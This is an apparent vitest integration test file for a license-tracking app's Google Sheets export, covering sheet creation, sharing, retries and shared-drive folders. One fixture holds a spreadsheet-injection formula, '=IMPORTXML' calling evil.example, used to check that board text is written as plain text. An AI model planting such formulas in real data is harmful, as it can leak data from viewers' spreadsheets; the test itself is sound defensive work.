import { generateKeyPairSync, randomUUID } from 'node:crypto';
import { SOURCE_METHOD_LABELS } from '@licensewatch/shared/license-sources';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AppContext } from '../src/context.ts';
import type { SourceRecord } from '../src/modules/licensing/types.ts';
import { upsertLookedUpLicenses } from '../src/modules/licensing/upsert-looked-up-licenses.ts';
import { REPORT_EXPORT_COLUMNS } from '../src/modules/reports/exports/build-report-export-rows.ts';
import {
  createGoogleSheetsClient,
  GOOGLE_EXPORT_SCOPES,
  GOOGLE_FOLDER_EXPORT_SCOPES,
  GoogleApiError,
} from '../src/modules/reports/exports/google-sheets.ts';
import { dailyRefreshJob } from '../src/modules/reports/update/daily-refresh-job.ts';
import { signedInOnPlan, waitFor } from './support/accounts.ts';
import { type GoogleStandIn, startGoogleStandIn } from './support/google-stand-in.ts';
import type { HttpClient } from './support/http-client.ts';
import { type SimulatedBoards, startSimulatedBoards } from './support/simulated-boards.ts';
import { startTestServer, type TestServer } from './support/test-server.ts';

const SERVICE_ACCOUNT = 'licensewatch-exports@lw-test.iam.gserviceaccount.com';
const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
const PEM = String(privateKey.export({ type: 'pkcs8', format: 'pem' })).trim();

// ---- A physician put into the registry by hand; one board publishes text a spreadsheet would run.

const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
const PHYSICIAN = {
  firstName: 'Perpetua',
  middleName: 'Quill',
  lastName: 'Ashgrove-Lindqvist',
  licenseType: 'MD' as const,
};
const FORMULA = '=IMPORTXML("http://evil.example","//a")';

function license(
  boardId: string,
  jurisdiction: SourceRecord['jurisdiction'],
  licenseNumber: string,
  expiryDate: string,
  extra: Partial<SourceRecord> = {},
): SourceRecord {
  return {
    jurisdiction,
    boardId,
    licenseType: PHYSICIAN.licenseType,
    licenseNumber,
    firstName: PHYSICIAN.firstName,
    middleName: PHYSICIAN.middleName,
    lastName: PHYSICIAN.lastName,
    suffix: null,
    rawStatus: 'ACTIVE',
    status: 'active',
    issueDate: '2012-05-01',
    expiryDate,
    discipline: null,
    ...extra,
  };
}
const LICENSES = [
  license('nd-med', 'ND', 'ND-G3001', day(400)),
  license('vt-md', 'VT', 'VT-G3002', day(-10), { rawStatus: 'EXPIRED', status: 'expired' }),
  license('ny-med', 'NY', 'NY-G3003', day(200), { discipline: FORMULA }),
];
const STATES = ['North Dakota', 'Vermont', 'New York'];

type Account = { client: HttpClient; email: string };

const onPremium = (server: TestServer): Promise<Account> => signedInOnPlan(server);

async function createReport(account: Account, name: string): Promise<string> {
  const created = await account.client.post('/api/v2/reports/', { name, ...PHYSICIAN, states: STATES });
  expect(created.status).toBe(201);
  const id = created.body.id as string;
  await waitFor(
    'the report update',
    async () => (await account.client.get(`/api/v2/states/update-status/${id}`)).body.is_completed,
  );
  return id;
}

type Job = { state: string; retry_count: number; output: { message?: string } | null };
async function syncJobs(ctx: AppContext, queue: string, reportId: string): Promise<Job[]> {
  const { rows } = await ctx.pool.query<Job>(
    'SELECT state, retry_count, output FROM pgboss.job WHERE name = $1 AND singleton_key = $2 ORDER BY created_on',
    [queue, reportId],
  );
  return rows;
}

type License = {
  state: string;
  license_number: string;
  license_type: string;
  name_on_license: string;
  status: string;
  board_status: string;
  board_status_text: string | null;
  issued: string | null;
  expired: string | null;
  days_to_expiry: number | null;
  discipline: string | null;
  source: { name: string; method: 'bulk' | 'lookup' | 'manual' };
  verified_at: string;
};

/** The Source column of a license no person verified: how it was read, and from which board. */
const sourceCell = (l: License) => `${SOURCE_METHOD_LABELS[l.source.method]} (${l.source.name})`;
/** The row the sheet should hold for a license of the licenses call: every cell as is, empty as ''. */
const expectedRow = (l: License) => [
  l.state,
  l.license_number,
  l.license_type,
  l.name_on_license,
  l.status,
  l.board_status_text ?? l.board_status,
  l.issued ?? '',
  l.expired ?? '',
  l.days_to_expiry ?? '',
  l.discipline ?? '',
  sourceCell(l),
  l.verified_at,
  // No NPI or Internal ID given: empty cells.
  '',
  '',
];

describe('with Google configured', () => {
  let google: GoogleStandIn;
  let server: TestServer;
  let boards: SimulatedBoards;
  beforeAll(async () => {
    google = await startGoogleStandIn({ serviceAccountEmail: SERVICE_ACCOUNT, publicKey });
    server = await startTestServer({
      GOOGLE_SERVICE_ACCOUNT_EMAIL: SERVICE_ACCOUNT,
      // As pasted into an env file: one line, line breaks as literal \n.
      GOOGLE_SERVICE_ACCOUNT_KEY: PEM.replaceAll('\n', '\\n'),
      GOOGLE_API_ROOT_URL: google.url,
    });
    boards = await startSimulatedBoards(server.ctx, { size: 200, seed: 7 });
    await upsertLookedUpLicenses(server.ctx, { records: LICENSES, sourceKind: 'html-lookup' });
  });
  afterAll(async () => {
    await server?.close();
    await boards?.sim.close();
    await google?.close();
  });

  const sheetOf = (url: string) => {
    const spreadsheet = [...google.spreadsheets.values()].find((s) => url.includes(`/d/${s.id}/`));
    if (!spreadsheet) throw new Error(`no spreadsheet behind ${url}`);
    return spreadsheet;
  };
  const callsFor = (spreadsheetId: string) => google.calls.filter((c) => c.path.includes(`/${spreadsheetId}`));

  /** The link is stored as soon as the spreadsheet exists, before it is filled and shared: wait for the whole job. */
  const synced = (id: string) =>
    waitFor('the sync job', async () => {
      const jobs = await syncJobs(server.ctx, 'sync-google-sheet', id);
      return jobs.length > 0 && jobs.every((j) => j.state === 'completed');
    });

  let owner: Account;
  let reportId: string;
  let sheetUrl: string;

  it('creates the sheet after the update, writes header and rows RAW, shares it with the owner and links it', async () => {
    owner = await onPremium(server);
    reportId = await createReport(owner, 'Dr. Ashgrove-Lindqvist — all licenses');
    await synced(reportId);
    sheetUrl = (await owner.client.get(`/api/v1/reports/${reportId}`)).body.google_sheet_url;
    expect(sheetUrl).toMatch(/^https:\/\/docs\.google\.com\/spreadsheets\/d\/[A-Za-z0-9_-]+\/edit$/);

    // The app is told it may offer Sheet, and not Table view, which this server has no account for.
    expect((await owner.client.get('/api/v2/app-settings')).body.report_exports).toEqual({
      google_sheets: true,
      airtable: false,
    });

    const spreadsheet = sheetOf(sheetUrl);
    expect(spreadsheet.title).toBe('Dr. Ashgrove-Lindqvist — all licenses');
    const licenses: License[] = (await owner.client.get(`/api/v2/reports/${reportId}/licenses`)).body;
    expect(licenses).toHaveLength(3);
    expect(spreadsheet.sheets.get('Licenses')).toEqual([[...REPORT_EXPORT_COLUMNS], ...licenses.map(expectedRow)]);
    expect([...spreadsheet.sheets.keys()]).toEqual(['Licenses']);
    expect(spreadsheet.frozenRows.get('Licenses')).toBe(1);
    expect(spreadsheet.parents).toEqual([]);
    expect(spreadsheet.permissions).toEqual([
      expect.objectContaining({ type: 'user', role: 'reader', emailAddress: owner.email }),
    ]);

    const calls = callsFor(spreadsheet.id);
    const writes = calls.filter((c) => c.method === 'PUT');
    expect(writes).toHaveLength(1);
    expect(writes[0]?.query.valueInputOption).toBe('RAW');
    const share = calls.find((c) => c.path.endsWith('/permissions'));
    expect(share?.query.sendNotificationEmail).toBe('true');
    // Every call carried the service account's own signed JWT, scoped, and nothing asked a token endpoint.
    for (const call of google.calls) {
      expect(call.claims).toMatchObject({
        iss: SERVICE_ACCOUNT,
        sub: SERVICE_ACCOUNT,
        scope: GOOGLE_EXPORT_SCOPES.join(' '),
      });
    }
    expect(google.calls.some((c) => c.path.includes('token'))).toBe(false);
    expect(await syncJobs(server.ctx, 'sync-google-sheet', reportId)).toHaveLength(1);
  });

  it('keeps formula-looking board text as text: written RAW, never run', () => {
    const rows = sheetOf(sheetUrl).sheets.get('Licenses') ?? [];
    const ny = rows.find((r) => r[1] === 'NY-G3003');
    expect(ny?.[9]).toBe(FORMULA);
    expect(rows.flat().some((cell) => typeof cell === 'object')).toBe(false);
  });

  it('rewrites the same spreadsheet on the next sync (after the daily refresh): cleared, no second one created', async () => {
    const listed: (License & { id: string })[] = (await owner.client.get(`/api/v2/reports/${reportId}/licenses`)).body;
    const vt = listed.find((l) => l.license_number === 'VT-G3002');
    expect((await owner.client.request('PATCH', `/api/v2/reports/licenses/${vt?.id}`)).status).toBe(200);
    const creates = () => google.calls.filter((c) => c.method === 'POST' && c.path === '/v4/spreadsheets').length;
    const createdBefore = creates();

    await dailyRefreshJob(server.ctx);
    const spreadsheet = sheetOf(sheetUrl);
    await waitFor('the re-sync', async () => (spreadsheet.sheets.get('Licenses')?.length ?? 0) === 3);
    await synced(reportId);

    const remaining: License[] = (await owner.client.get(`/api/v2/reports/${reportId}/licenses`)).body;
    expect(spreadsheet.sheets.get('Licenses')).toEqual([[...REPORT_EXPORT_COLUMNS], ...remaining.map(expectedRow)]);
    expect(creates()).toBe(createdBefore);
    expect((await owner.client.get(`/api/v1/reports/${reportId}`)).body.google_sheet_url).toBe(sheetUrl);
    const calls = callsFor(spreadsheet.id);
    const clear = calls.findIndex((c) => c.path.endsWith(':clear'));
    const lastWrite = calls.findLastIndex((c) => c.method === 'PUT');
    expect(clear).toBeGreaterThan(-1);
    expect(clear).toBeLessThan(lastWrite);
    // Shared again without another email; still one permission.
    expect(calls.filter((c) => c.path.endsWith('/permissions')).map((c) => c.query.sendNotificationEmail)).toEqual([
      'true',
      'false',
    ]);
    expect(spreadsheet.permissions).toHaveLength(1);
  });

  it('while Google is down the report is unaffected and the sync is retried; the link appears once Google is back', async () => {
    const other = await onPremium(server);
    google.failWith(503);
    let id = '';
    try {
      id = await createReport(other, 'During an outage');
      const failed = await waitFor('the failed sync', async () => {
        const [job] = await syncJobs(server.ctx, 'sync-google-sheet', id);
        return job?.state === 'retry' ? job : null;
      });
      expect(failed.output?.message).toMatch(/503/);
      const report = (await other.client.get(`/api/v1/reports/${id}`)).body;
      expect(report).toMatchObject({ google_sheet_url: null, total_license: 3 });
      expect(report.update_excuted_date).not.toBeNull();
      expect((await other.client.get(`/api/v2/reports/${id}/licenses`)).body).toHaveLength(3);
    } finally {
      google.failWith(null);
    }
    // The retry waits a minute or more (backoff); bring its time forward instead of sleeping.
    await server.ctx.pool.query(
      `UPDATE pgboss.job SET start_after = now() WHERE name = 'sync-google-sheet' AND singleton_key = $1 AND state = 'retry'`,
      [id],
    );
    await synced(id);
    const url = (await other.client.get(`/api/v1/reports/${id}`)).body.google_sheet_url;
    expect(sheetOf(url).sheets.get('Licenses')).toHaveLength(4);
    expect(sheetOf(url).permissions.map((p) => p.emailAddress)).toEqual([other.email]);
    const [job] = await syncJobs(server.ctx, 'sync-google-sheet', id);
    expect(job).toMatchObject({ state: 'completed', retry_count: 1 });
  });

  it('replaces a spreadsheet deleted at Google with a new one, shared again, on the next sync', async () => {
    google.spreadsheets.delete(sheetOf(sheetUrl).id);
    const jobsBefore = (await syncJobs(server.ctx, 'sync-google-sheet', reportId)).length;
    await server.ctx.jobs.send('syncGoogleSheet', { reportId }, { singletonKey: reportId });
    await waitFor(
      'the sync job',
      async () => (await syncJobs(server.ctx, 'sync-google-sheet', reportId)).length > jobsBefore,
    );
    await synced(reportId);
    const url = (await owner.client.get(`/api/v1/reports/${reportId}`)).body.google_sheet_url;
    expect(url).not.toBe(sheetUrl);
    const replacement = sheetOf(url);
    expect(replacement.sheets.get('Licenses')).toHaveLength(3);
    expect(replacement.permissions.map((p) => p.emailAddress)).toEqual([owner.email]);
  });

  it('a report deleted before its sync runs: the job finds nothing, calls Google for nothing and succeeds', async () => {
    const before = google.calls.length;
    const gone = randomUUID();
    await server.ctx.jobs.send('syncGoogleSheet', { reportId: gone }, { singletonKey: gone });
    await waitFor(
      'the job',
      async () => (await syncJobs(server.ctx, 'sync-google-sheet', gone))[0]?.state === 'completed',
    );
    expect(google.calls.length).toBe(before);
  });

  it('the stand-in is honest: a JWT signed with another key is refused', async () => {
    const stranger = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({
      type: 'pkcs8',
      format: 'pem',
    });
    const client = createGoogleSheetsClient({ email: SERVICE_ACCOUNT, key: String(stranger), rootUrl: google.url });
    const error = await client.createSpreadsheet('x').catch((e: unknown) => e);
    expect(error).toBeInstanceOf(GoogleApiError);
    expect((error as GoogleApiError).status).toBe(401);
  });
});

describe('with Google configured to create spreadsheets in a shared-drive folder', () => {
  const FOLDER = '0AFolderInASharedDrive_x1';
  let google: GoogleStandIn;
  let server: TestServer;
  let boards: SimulatedBoards;
  beforeAll(async () => {
    // A service account Google gives no storage: only a shared drive can hold its files.
    google = await startGoogleStandIn({
      serviceAccountEmail: SERVICE_ACCOUNT,
      publicKey,
      sharedDriveFolders: [FOLDER],
      ownsFiles: false,
    });
    server = await startTestServer({
      GOOGLE_SERVICE_ACCOUNT_EMAIL: SERVICE_ACCOUNT,
      GOOGLE_SERVICE_ACCOUNT_KEY: PEM,
      GOOGLE_API_ROOT_URL: google.url,
      GOOGLE_DRIVE_FOLDER_ID: FOLDER,
    });
    boards = await startSimulatedBoards(server.ctx, { size: 200, seed: 7 });
    await upsertLookedUpLicenses(server.ctx, { records: LICENSES, sourceKind: 'html-lookup' });
  });
  afterAll(async () => {
    await server?.close();
    await boards?.sim.close();
    await google?.close();
  });

  it('creates the sheet in the folder through Drive, names and freezes its sheet, writes RAW, shares it and links it', async () => {
    const owner = await onPremium(server);
    const id = await createReport(owner, 'Dr. Ashgrove-Lindqvist — shared drive');
    await waitFor('the sync job', async () => {
      const jobs = await syncJobs(server.ctx, 'sync-google-sheet', id);
      return jobs.length > 0 && jobs.every((j) => j.state === 'completed');
    });
    const url: string = (await owner.client.get(`/api/v1/reports/${id}`)).body.google_sheet_url;
    expect(url).toMatch(/^https:\/\/docs\.google\.com\/spreadsheets\/d\/[A-Za-z0-9_-]+\/edit(\?.*)?$/);

    const spreadsheet = [...google.spreadsheets.values()].find((s) => url.includes(`/d/${s.id}/`));
    if (!spreadsheet) throw new Error(`no spreadsheet behind ${url}`);
    expect(spreadsheet).toMatchObject({
      title: 'Dr. Ashgrove-Lindqvist — shared drive',
      parents: [FOLDER],
      inSharedDrive: true,
    });
    // The same sheet spreadsheets.create would have made: one, named Licenses, header row frozen.
    expect([...spreadsheet.sheets.keys()]).toEqual(['Licenses']);
    expect(spreadsheet.frozenRows.get('Licenses')).toBe(1);
    const licenses: License[] = (await owner.client.get(`/api/v2/reports/${id}/licenses`)).body;
    expect(spreadsheet.sheets.get('Licenses')).toEqual([[...REPORT_EXPORT_COLUMNS], ...licenses.map(expectedRow)]);
    expect(spreadsheet.sheets.get('Licenses')?.find((r) => r[1] === 'NY-G3003')?.[9]).toBe(FORMULA);
    expect(spreadsheet.permissions).toEqual([
      expect.objectContaining({ type: 'user', role: 'reader', emailAddress: owner.email }),
    ]);

    // Never asked Sheets to create it (that would need the service account's own storage).
    expect(google.calls.filter((c) => c.method === 'POST' && c.path === '/v4/spreadsheets')).toEqual([]);
    const create = google.calls.find((c) => c.method === 'POST' && c.path === '/drive/v3/files');
    expect(create).toMatchObject({ status: 200, query: { supportsAllDrives: 'true' } });
    expect(create?.body).toEqual({
      name: 'Dr. Ashgrove-Lindqvist — shared drive',
      mimeType: 'application/vnd.google-apps.spreadsheet',
      parents: [FOLDER],
    });
    const calls = google.calls.filter((c) => c.path.includes(`/${spreadsheet.id}`));
    expect(calls.map((c) => [c.method, decodeURIComponent(c.path).replace(spreadsheet.id, 'ID'), c.status])).toEqual([
      ['POST', '/v4/spreadsheets/ID:batchUpdate', 200],
      ['PUT', '/v4/spreadsheets/ID/values/Licenses!A1', 200],
      ['POST', '/drive/v3/files/ID/permissions', 200],
    ]);
    expect(calls[1]?.query.valueInputOption).toBe('RAW');
    expect(calls[2]?.query).toMatchObject({ supportsAllDrives: 'true', sendNotificationEmail: 'true' });
    // A folder the service account did not create is beyond drive.file: the full Drive scope is asked for.
    for (const call of google.calls) expect(call.claims?.scope).toBe(GOOGLE_FOLDER_EXPORT_SCOPES.join(' '));
  });

  it('the stand-in is honest: no storage of its own, and only a shared-drive folder it is a member of', async () => {
    const own = createGoogleSheetsClient({ email: SERVICE_ACCOUNT, key: PEM, rootUrl: google.url });
    const quota = await own.createSpreadsheet('x').catch((e: unknown) => e);
    expect(quota).toBeInstanceOf(GoogleApiError);
    expect((quota as GoogleApiError).status).toBe(403);
    expect((quota as GoogleApiError).message).toMatch(/storage quota/);

    const elsewhere = createGoogleSheetsClient({
      email: SERVICE_ACCOUNT,
      key: PEM,
      rootUrl: google.url,
      folderId: 'someone-elses-folder',
    });
    const missing = await elsewhere.createSpreadsheet('x').catch((e: unknown) => e);
    expect((missing as GoogleApiError).status).toBe(404);
  });
});

describe('without Google or Airtable configured', () => {
  let server: TestServer;
  let boards: SimulatedBoards;
  beforeAll(async () => {
    server = await startTestServer();
    boards = await startSimulatedBoards(server.ctx, { size: 200, seed: 7 });
    await upsertLookedUpLicenses(server.ctx, { records: LICENSES, sourceKind: 'html-lookup' });
  });
  afterAll(async () => {
    await server?.close();
    await boards?.sim.close();
  });

  it('queues no export job and the links stay null', async () => {
    const owner = await onPremium(server);
    const id = await createReport(owner, 'Nothing to sync to');
    await dailyRefreshJob(server.ctx);
    await waitFor('the refresh', async () => (await server.ctx.jobs.pending('refreshReport')) === 0);
    const { rows } = await server.ctx.pool.query(
      `SELECT name FROM pgboss.job WHERE name IN ('sync-google-sheet', 'sync-airtable-base')`,
    );
    expect(rows).toEqual([]);
    expect((await owner.client.get(`/api/v1/reports/${id}`)).body).toMatchObject({
      google_sheet_url: null,
      airtable_base_url: null,
    });
  });
});
